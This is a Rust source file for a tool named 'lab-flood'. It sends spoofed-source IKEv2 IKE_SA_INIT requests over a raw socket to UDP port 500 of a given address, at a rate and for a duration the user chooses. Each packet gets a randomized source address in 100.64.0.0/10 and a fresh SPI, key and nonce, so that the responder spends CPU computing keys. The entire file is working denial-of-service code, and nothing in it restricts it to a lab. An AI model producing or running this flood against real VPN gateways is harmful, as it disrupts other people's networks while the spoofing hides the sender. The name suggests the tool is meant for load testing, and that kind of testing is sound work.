//! `lab-flood ADDR RATE SECONDS`: RATE first messages of an IKE SA a second to ADDR, port 500, each from another address
//! of 100.64.0.0/10. Prints `sent N in S seconds`.
//!
//! Every one is a sound IKE_SA_INIT request (aes256gcm16-prfsha384-x25519) with its own SPI, key and nonce: a responder
//! that took them at their word would compute a key for each.
#![forbid(unsafe_code)]

use std::io::Write;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use anyhow::{Context, Result, bail};
use rustix::net::sockopt::set_socket_send_buffer_size;
use rustix::net::{AddressFamily, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with};

fn main() -> Result<()> {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
    let [target, rate, seconds] = *words else { bail!("usage: lab-flood ADDR RATE SECONDS") };
    let (target, rate, seconds): (Ipv4Addr, u64, u64) = (target.parse()?, rate.parse()?, seconds.parse()?);
    // IPPROTO_RAW: the IP header is ours, its checksum the kernel's.
    let socket = socket_with(AddressFamily::INET, SocketType::RAW, SocketFlags::CLOEXEC, Some(ipproto::RAW))?;
    set_socket_send_buffer_size(&socket, 4 << 20)?;
    let to = SocketAddrV4::new(target, 0);
    let mut packet = request(target)?;
    let mut noise =
        Noise(u64::try_from(SystemTime::now().duration_since(UNIX_EPOCH)?.as_nanos() & 0xffff_ffff)? | 1);
    let (start, length, mut sent) = (Instant::now(), Duration::from_secs(seconds), 0_u64);
    while start.elapsed() < length {
        // What is due by now, at most 20 ms' worth: who was not scheduled does not make up for it in one burst.
        let due = u64::try_from(start.elapsed().as_micros())? * rate / 1_000_000;
        for _ in 0..due.saturating_sub(sent).min(rate / 50 + 1) {
            spoof(&mut packet, &mut noise).context("the packet's layout")?;
            sendto(&socket, &packet, SendFlags::empty(), &to)?;
            sent += 1;
        }
        std::thread::sleep(Duration::from_micros(500));
    }
    writeln!(std::io::stdout(), "sent {sent} in {:.1} seconds", start.elapsed().as_secs_f64())?;
    Ok(())
}

const IP: usize = 20;
const UDP: usize = 8;
const IKE: usize = 28;

/// IP, UDP, IKE header, SA, KE and Nonce payloads with zeros where [`spoof`] puts noise.
fn request(target: Ipv4Addr) -> Result<Vec<u8>> {
    // RFC 7296 3.3: one proposal of three transforms. ENCR_AES_GCM_16 with 256 bits, PRF_HMAC_SHA2_384, Curve25519.
    let sa = [
        &[34, 0, 0, 40][..],
        &[0, 0, 0, 36, 1, 1, 0, 3],
        &[3, 0, 0, 12, 1, 0, 0, 20, 0x80, 14, 1, 0],
        &[3, 0, 0, 8, 2, 0, 0, 6],
        &[0, 0, 0, 8, 4, 0, 0, 31],
    ]
    .concat();
    let ke = [&[40, 0, 0, 40, 0, 31, 0, 0][..], &[0; 32]].concat();
    let nonce = [&[0, 0, 0, 36][..], &[0; 32]].concat();
    let ike_length = IKE + sa.len() + ke.len() + nonce.len();
    // SPIs, next payload SA, version 2.0, IKE_SA_INIT, initiator, message 0.
    let mut ike = [&[0; 16][..], &[33, 0x20, 34, 0x08, 0, 0, 0, 0]].concat();
    ike.extend(u32::try_from(ike_length)?.to_be_bytes());
    let udp_length = u16::try_from(UDP + ike_length)?;
    let mut udp = [500_u16.to_be_bytes(), 500_u16.to_be_bytes(), udp_length.to_be_bytes()].concat();
    // Over IPv4 the checksum may be left out.
    udp.extend([0, 0]);
    let mut ip = vec![0x45, 0];
    ip.extend((u16::try_from(IP)? + udp_length).to_be_bytes());
    ip.extend([0, 0, 0x40, 0, 64, 17, 0, 0, 100, 64, 0, 0]);
    ip.extend(target.octets());
    Ok([ip, udp, ike, sa, ke, nonce].concat())
}

/// Another source, SPI, key and nonce.
fn spoof(packet: &mut [u8], noise: &mut Noise) -> Option<()> {
    let random = noise.next().to_be_bytes();
    packet.get_mut(13..16)?.copy_from_slice(&[64 | random.first()? & 0x3f, *random.get(1)?, *random.get(2)?]);
    let spi = noise.next() | 1;
    packet.get_mut(IP + UDP..)?.first_chunk_mut()?.clone_from(&spi.to_be_bytes());
    let nonce = packet.len() - 32;
    let key = nonce - 4 - 32;
    for start in [key, nonce] {
        for chunk in packet.get_mut(start..start + 32)?.chunks_mut(8) {
            chunk.copy_from_slice(&noise.next().to_be_bytes());
        }
    }
    Some(())
}

/// xorshift64*.
struct Noise(u64);

impl Noise {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}
